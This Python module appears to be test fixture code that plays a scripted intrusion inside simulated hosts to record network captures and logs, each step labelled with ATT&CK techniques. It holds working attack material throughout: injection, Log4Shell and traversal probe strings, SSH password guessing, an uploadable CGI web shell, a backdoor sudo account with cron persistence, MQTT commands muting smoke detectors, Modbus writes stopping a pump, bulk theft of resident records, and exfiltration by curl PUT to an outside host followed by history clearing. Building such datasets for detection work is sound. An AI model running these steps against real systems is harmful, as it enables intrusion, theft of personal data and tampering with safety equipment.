"""An intrusion across the district, step by step, with the tools an intruder would use; times are taken as it happens.

Everything stays inside the namespaces: targets are the hosts of `world.py`, commands are harmless, loops are bounded.
"""

from __future__ import annotations

import time
from collections.abc import Callable, Mapping
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime

from tests.captures.make.hosts import Machine
from tests.captures.make.needs import PYTHON
from tests.captures.make.world import API_TOKENS, HOSTS, PUBLIC_PORTAL, PUBLIC_SITE, TUNNEL_DOMAIN, WEIHU, ZONES, Step

DROP = f"{ZONES['wan']}.77"
ATTACKER, PORTAL, DATA = HOSTS["attacker"].ip, HOSTS["portal"].ip, HOSTS["data-host"].ip
DNS, BROKER, PUMP = HOSTS["dns"].ip, HOSTS["broker"].ip, HOSTS["pump"].ip
SITE = ("-H", f"Host: {PUBLIC_SITE}")
PROBE_AGENT = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:probe)"  # what the tool of that name calls itself
PROBES = (
    "/.env", "/.git/config", "/.git/HEAD", "/wp-login.php", "/phpmyadmin/", "/admin/", "/manager/html", "/actuator/env",
    "/server-status", "/backup.zip", "/config.php.bak", "/web.config", "/cgi-bin/test.cgi", "/console", "/druid/index.html",
    "/api/v1/datasets/resident-services/records", "/solr/admin/", "/jenkins/", "/.svn/entries", "/id_rsa", "/db.sql",
    "/search?q=%27%20OR%20%271%27%3D%271", "/search?q=1%20UNION%20SELECT%20name%2Cpassword%20FROM%20users--",
    "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/search?q=${jndi:ldap://198.51.100.200/a}",
    "/news/..%2f..%2f..%2f..%2fetc%2fpasswd", "/static/../../../../etc/passwd", "/?page=../../../../etc/passwd",
    "/search?q=;cat%20/etc/passwd", "/uploads/", "/uploads/test.cgi", "/login.bak", "/README.md", "/swagger-ui.html",
)  # fmt: skip
GUESSES = [(user, password) for user in ("root", "admin", "test", "oracle", "ubuntu", "guest")
           for password in ("123456", "admin123", "Passw0rd", "qwerty")] + [
    ("weihu", password) for password in ("123456", "weihu", "admin123", "qinghe2026", "Weihu@123", "weihu888")
]  # fmt: skip
PAGES, ROWS = 60, 150  # what is taken from the public-data API
WEB_SHELL = r"""#!/bin/sh
# test web shell of a recording: runs what the query string says
cmd=$(printf "%s" "${QUERY_STRING#cmd=}" | sed "s/+/ /g; s/%20/ /g; s/%2F/\//g; s/%3B/;/g; s/%7C/|/g")
sh -c "$cmd" 2>&1
"""


class Attack:
    """`run()` plays all steps; `steps` then holds what happened and when."""

    def __init__(self, machines: Mapping[str, Machine], pause: float) -> None:
        self._on = machines["attacker"]
        self._pause = pause
        self.steps: list[Step] = []

    def run(self) -> None:
        for act in (
            self._scan, self._probe, self._guess, self._web_shell, self._tunnel, self._lateral, self._mqtt,
            self._modbus, self._api, self._exfiltrate,
        ):  # fmt: skip
            self._play(act)
            time.sleep(self._pause)

    def _play(self, act: Callable[[], Step]) -> None:
        start = datetime.now(UTC)
        step = act()
        step.start = start.isoformat(timespec="milliseconds").replace("+00:00", "Z")
        step.end = datetime.now(UTC).isoformat(timespec="milliseconds").replace("+00:00", "Z")
        self.steps.append(step)

    def _weihu(self, command: str, timeout: float = 120) -> str:
        """A command on the portal, in a new SSH session of the guessed account."""
        return self._on.run(
            "sshpass", "-p", WEIHU.password, "ssh", *SSH, f"weihu@{PUBLIC_PORTAL}", command, timeout=timeout
        )

    def _curl(self, *argv: str, agent: str = "curl/7.88.1") -> str:
        return self._on.run("curl", "-s", "-m", "20", "-A", agent, *SITE, *argv)

    def _scan(self) -> Step:
        self._on.run("nmap", "-n", "-Pn", "-sS", "-p", "1-1024,1433,1521,3306,3389,5432,6379,8000,8080,8443,9200,27017",
                     "--max-rate", "150", PUBLIC_PORTAL, timeout=60)  # fmt: skip
        self._on.run("nmap", "-n", "-Pn", "-sT", "-sV", "--version-light", "-p", "22,80,443", PUBLIC_PORTAL, timeout=60)
        return Step(
            "port scan", "T1595.001", [ATTACKER, PORTAL], ["extranet.pcap.gz", "portal/nginx-access.log", "portal/syslog.log"],
            "nmap -sS over 1036 ports of the portal's public address, then -sT -sV on the open ones.",
            "用 nmap 对门户公网地址做 SYN 扫描（1036 个端口），再对开放端口做全连接与版本探测。",
        )  # fmt: skip

    def _probe(self) -> Step:
        for path in PROBES:
            self._curl("-o", "/dev/null", "--path-as-is", f"http://{PUBLIC_PORTAL}{path}", agent=PROBE_AGENT)
            time.sleep(0.25)
        self._on.run(
            "nmap",
            "-n",
            "-Pn",
            "-p",
            "80",
            "--script",
            "http-enum,http-methods,http-headers",
            "--script-args",
            "http-enum.category=general",
            PUBLIC_PORTAL,
            timeout=90,
        )
        return Step(
            "web probing", "T1595.002", [ATTACKER, PORTAL], ["extranet.pcap.gz", "portal/nginx-access.log"],
            "Known paths, injection and traversal strings asked of the portal, then nmap's http-enum script.",
            "探测门户的敏感路径，尝试 SQL 注入、目录遍历等，再用 nmap http-enum 脚本枚举。",
        )  # fmt: skip

    def _guess(self) -> Step:
        def attempt(pair: tuple[str, str]) -> None:
            user, password = pair
            self._on.run("sshpass", "-p", password, "ssh", *SSH, f"{user}@{PUBLIC_PORTAL}", "true", timeout=30)

        with ThreadPoolExecutor(4) as pool:
            list(pool.map(attempt, GUESSES))
        self._weihu("id; uname -a; ls -la ~ ~/.ssh; sudo -n -l")
        return Step(
            "SSH password guessing that succeeds", "T1110.001", [ATTACKER, PORTAL],
            ["extranet.pcap.gz", "portal/syslog.log", "portal/audit.log"],
            f"{len(GUESSES)} failed passwords for seven accounts, then the vendor's forgotten account `weihu` opens.",
            f"对七个账号尝试 {len(GUESSES)} 次口令失败后，以运维厂商遗留账号 weihu 的弱口令登录成功。",
        )  # fmt: skip

    def _web_shell(self) -> Step:
        self._on.run("sh", "-c", "cat > /tmp/notice.cgi", stdin=WEB_SHELL)
        self._curl("-F", "file=@/tmp/notice.cgi;filename=notice.cgi", f"http://{PUBLIC_PORTAL}/apply/upload")
        for command in ("id", "uname+-a", "whoami", "cat+%2Fetc%2Fpasswd", "ls+-la+%2Fsrv%2Fportal",
                        "cat+%2Fsrv%2Fportal%2Fconfig.ini", "hostname+-I", "ps+aux"):  # fmt: skip
            self._curl(f"http://{PUBLIC_PORTAL}/uploads/notice.cgi?cmd={command}")
            time.sleep(1.5)
        return Step(
            "web shell uploaded and used", "T1505.003", [ATTACKER, PORTAL],
            ["extranet.pcap.gz", "portal/nginx-access.log", "portal/app.jsonl", "portal/audit.log"],
            "notice.cgi goes through the upload form and runs id, uname, cat and ls as the web application; it reads the "
            "data API's token from the portal's configuration.",
            "通过材料上传功能上传 WebShell（notice.cgi），以 Web 应用身份执行 id、uname、cat 等命令，并从配置文件读到数据接口令牌。",
        )  # fmt: skip

    def _tunnel(self) -> Step:
        self._weihu("mkdir -p /var/tmp/.cache")
        self._on.run("sshpass", "-p", WEIHU.password, "scp", *SSH, "/opt/district/tunnel.py",
                     "/opt/district/modbus_client.py", f"weihu@{PUBLIC_PORTAL}:/var/tmp/.cache/", timeout=30)  # fmt: skip
        self._weihu(
            f"chmod 700 /var/tmp/.cache/tunnel.py; {PYTHON} /var/tmp/.cache/tunnel.py {DNS} {TUNNEL_DOMAIN} 360 0.11"
        )
        return Step(
            "DNS tunnel", "T1071.004", [ATTACKER, PORTAL, DNS, HOSTS["internet"].ip],
            ["extranet.pcap.gz", "dns/syslog.log", "portal/audit.log", "portal/syslog.log"],
            f"A script copied by scp asks 360 long random TXT names below {TUNNEL_DOMAIN} through the district's resolver.",
            f"用 scp 传入脚本，经区内 DNS 解析器对 {TUNNEL_DOMAIN} 发起 360 次超长随机子域 TXT 查询（DNS 隧道）。",
        )  # fmt: skip

    def _lateral(self) -> Step:
        hop = f"ssh -i ~/.ssh/id_ed25519 datasync@{DATA}"
        for command in (
            "id; hostname; uname -a",
            "sudo -l",
            "sudo cat /etc/shadow | wc -l",
            "sudo useradd -m -s /bin/bash -G sudo sysupd; echo sysupd:Sys-Upd-2026 | sudo chpasswd",
            "echo '* * * * * root /bin/sh -c \"date >> /var/tmp/.sysupd\"' | sudo tee /etc/cron.d/sysupd",
            "sudo su - sysupd -c 'id; crontab -l'",
            (
                "sudo sqlite3 -csv /var/lib/data-api/public.db 'select * from resident_services' > /tmp/rs.csv; "
                "sudo gzip -1 -k -f /tmp/rs.csv; ls -l /tmp"
            ),
        ):
            self._weihu(f"{hop} {_quoted(command)}")
            time.sleep(3)
        return Step(
            "lateral login, new user and cron job on the data host", "T1021.004", [PORTAL, DATA],
            ["extranet.pcap.gz", "data-host/syslog.log", "data-host/audit.log", "portal/audit.log"],
            "With the private key found in weihu's home, datasync on the data host: sudo, account sysupd (T1136.001), "
            "/etc/cron.d/sysupd that runs every minute (T1053.003), resident records written to /tmp.",
            "用 weihu 目录下的私钥登录数据主机 datasync 账号：sudo 提权、新建账号 sysupd、写入每分钟执行的计划任务、导出居民数据。",
        )  # fmt: skip

    def _mqtt(self) -> Step:
        base = f"-h {BROKER} -i explorer-$$"
        self._weihu(f"timeout 5 mosquitto_sub {base} -t '#' -C 1")
        for user, password in (("admin", "admin"), ("mqtt", "mqtt"), ("guest", "guest"), ("dashboard", "123456")):
            self._weihu(f"timeout 5 mosquitto_sub {base} -u {user} -P {password} -t '#' -C 1")
        login = "-u dashboard -P dashboard"
        self._weihu(f"timeout 15 mosquitto_sub {base} {login} -t '#' -t '$SYS/#' -v | head -c 4000")
        for topic, order in (
            ("camera/09/cmd", '{"cmd":"reboot"}'), ("camera/10/cmd", '{"cmd":"stream","enable":false}'),
            ("smoke/06/cmd", '{"cmd":"mute","seconds":86400}'), ("smoke/07/cmd", '{"cmd":"mute","seconds":86400}'),
            ("smoke/08/cmd", '{"cmd":"selftest"}'),
        ):  # fmt: skip
            self._weihu(f"mosquitto_pub {base} {login} -t nanqiao/{topic} -m '{order}'")
        return Step(
            "MQTT: all topics read, commands sent to devices", "T0855", [PORTAL, BROKER],
            ["iot.pcap.gz", "broker/syslog.log", "portal/audit.log"],
            "Refused without and with four guessed accounts, then as `dashboard`: subscription to # and $SYS/#, commands "
            "published to cameras and smoke detectors.",
            "匿名及四组口令被拒后，以 dashboard 账号订阅 # 和 $SYS/#，并向摄像头、烟感下发控制指令。",
        )  # fmt: skip

    def _modbus(self) -> Step:
        tool = f"{PYTHON} /var/tmp/.cache/modbus_client.py"
        self._weihu(f"{tool} sweep {PUMP}")
        time.sleep(3)
        self._weihu(f"{tool} write {PUMP}")
        return Step(
            "Modbus: sweep and writes from the wrong master", "T0836", [PORTAL, PUMP],
            ["iot.pcap.gz", "pump/modbus-gateway.jsonl", "portal/audit.log"],
            "The portal reads through all coils and registers of the pump station (T0861), then inhibits the alarm, stops "
            "pump 1 (T0855) and sets the level set point to 900 mm.",
            "门户主机遍历读取泵站全部线圈和寄存器，随后抑制报警、停 1 号泵、把液位设定值改为 900 毫米。",
        )  # fmt: skip

    def _api(self) -> Step:
        token = API_TOKENS[0][0]
        loop = (
            f"n=1; while [ $n -le {PAGES} ]; do curl -s -m 20 -o /dev/null -A python-requests/2.31.0 -H 'Host: {PUBLIC_SITE}' "
            f"-H 'Authorization: Bearer {token}' "
            f'"http://{PUBLIC_PORTAL}/api/v1/datasets/resident-services/records?page=$n&size={ROWS}"; sleep 0.25; n=$((n+1)); done'
        )
        self._on.run("sh", "-c", loop, timeout=120)
        return Step(
            "personal records taken in bulk from the public-data API", "T1530", [ATTACKER, PORTAL, DATA],
            ["extranet.pcap.gz", "portal/nginx-access.log", "data-host/data-api.jsonl"],
            f"{PAGES} pages of {ROWS} resident records with the portal's own token, from an outside address that never used it.",
            f"用窃取的门户令牌从外部地址（{ATTACKER}）批量翻页拉取居民数据，共 {PAGES} 页、每页 {ROWS} 条。",
        )  # fmt: skip

    def _exfiltrate(self) -> Step:
        cache = "/var/tmp/.cache"
        self._weihu(f"scp -i ~/.ssh/id_ed25519 datasync@{DATA}:/tmp/rs.csv.gz {cache}/ && gunzip -f {cache}/rs.csv.gz")
        self._weihu(f"tar -C /srv/portal -cf {cache}/up.tar uploads/archive; ls -l {cache}")
        for name in ("rs.csv", "up.tar"):
            self._weihu(f"curl -s -m 60 --limit-rate 900k -T {cache}/{name} http://{DROP}:8443/in/{name}", 90)
        self._weihu(f"rm -f {cache}/rs.csv {cache}/up.tar; history -c")
        return Step(
            "large transfer to an outside host", "T1048.003", [PORTAL, DROP], ["extranet.pcap.gz", "portal/audit.log"],
            "The exported records go from the data host to the portal by scp; they and the applicants' uploaded documents, about "
            "10 MB, go by HTTP PUT to port 8443 outside.",
            "导出的数据经 scp 传到门户，与申请材料一起（约 10 MB）以 HTTP PUT 发往外部主机 8443 端口。",
        )  # fmt: skip


SSH = (
    "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
    "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1", "-o", "ConnectTimeout=10",
)  # fmt: skip


def _quoted(command: str) -> str:
    return "'" + command.replace("'", "'\\''") + "'"
